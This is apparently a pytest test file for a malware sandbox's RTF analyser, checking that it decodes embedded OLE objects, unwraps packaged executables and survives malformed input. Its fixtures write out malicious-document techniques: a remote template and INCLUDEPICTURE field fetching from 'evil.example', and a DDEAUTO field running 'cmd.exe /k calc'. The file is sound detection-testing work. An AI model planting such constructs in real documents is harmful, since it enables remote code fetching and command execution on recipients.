import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.cuckoo.files.office.rtf import describe_rtf
from tests.files.compoundwriter import compound
from tests.files.reading import read, survives

CONTROLS = [
    "{",
    "}",
    "\\objdata",
    "\\bin",
    "\\'41",
    "0105",
    "\\*\\x ",
    "\\template http://x ",
    "\\fldinst ",
    "DDE ",
    "5",
]


def ole1(name: bytes, content: bytes) -> bytes:
    text = name + b"\0"
    head = struct.pack("<III", 0x501, 2, len(text)) + text + struct.pack("<II", 0, 0)
    return head + struct.pack("<I", len(content)) + content


def document(digits: str) -> bytes:
    return rb"{\rtf1{\info{\author Me}}{\object\objemb{\*\objdata " + digits.encode() + rb"}}}"


def test_an_object_is_decoded_and_named_by_its_class() -> None:
    office = read(describe_rtf, document(ole1(b"Equation.3", b"evil").hex()))

    assert [(each["name"], each["size"]) for each in office["objects"]] == [("Equation.3", 4)]
    assert office["metadata"] == {"author": "Me"}


@pytest.mark.parametrize("noise", ["\r\n", " ", "{\\*\\zzz 41}", "\\x1 ", "\\'41", "{}"])
def test_noise_between_the_digits_is_no_hiding_place(noise: str) -> None:
    digits = noise.join(ole1(b"Package", b"x" * 20).hex()[at : at + 7] for at in range(0, 400, 7))

    office = read(describe_rtf, document(digits))

    assert office["objects"][0]["name"] == "Package"


def test_a_file_packed_in_an_object_is_unwrapped() -> None:
    native = b"\2\0a.exe\0C:\\a.exe\0\0\0\3\0" + struct.pack("<I", 1) + b"\0" + struct.pack("<I", 2) + b"MZ"

    objects = read(describe_rtf, document(ole1(b"Package", native).hex()))["objects"]
    assert [each["name"] for each in objects] == ["Package", "C:\\a.exe"]

    inside = compound({"\1Ole10Native": struct.pack("<I", len(native)) + native})
    objects = read(describe_rtf, document(ole1(b"x", inside).hex()))["objects"]
    assert [(each["name"], each["kind"]) for each in objects] == [("x", "ole"), ("C:\\a.exe", "dos")]


def test_binary_data_is_taken_as_it_is() -> None:
    raw = ole1(b"a", b"{}\\")
    office = read(describe_rtf, rb"{\rtf1{\*\objdata\bin" + str(len(raw)).encode() + b" " + raw + b"}}")

    assert (office["objects"][0]["name"], office["objects"][0]["size"]) == ("a", 3)


def test_templates_and_fields_that_fetch_or_run() -> None:
    text = (
        rb"{\rtf1{\*\template http://evil.example/t.dotm}{\field{\*\fldinst {INCLUDEPICTURE "
        rb'"http://evil.example/p.png" \\d}}}{\field{\*\fldinst{DDEAUTO}{ cmd.exe "/k calc"}}}}'
    )

    office = read(describe_rtf, text)

    assert [(each["type"], each["target"].split('"')[0]) for each in office["external"]] == [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("INCLUDEPICTURE", "http://evil.example/p.png"),
    ]
    assert office["dde"] == ['cmd.exe "/k calc']


@pytest.mark.parametrize(
    "piece", [rb"{\objdata ", rb"\objdata {", rb"{\*\fldinst {", b"{" * 10, rb"\template "]
)
def test_a_trap_repeated_without_end_is_survived(piece: bytes) -> None:
    survives(describe_rtf, rb"{\rtf1" + piece * 20_000)


@given(st.lists(st.sampled_from(CONTROLS) | st.text(max_size=5)))
def test_any_rich_text_is_survived(pieces: list[str]) -> None:
    survives(describe_rtf, ("{\\rtf1" + "".join(pieces)).encode("utf-8", "replace"))
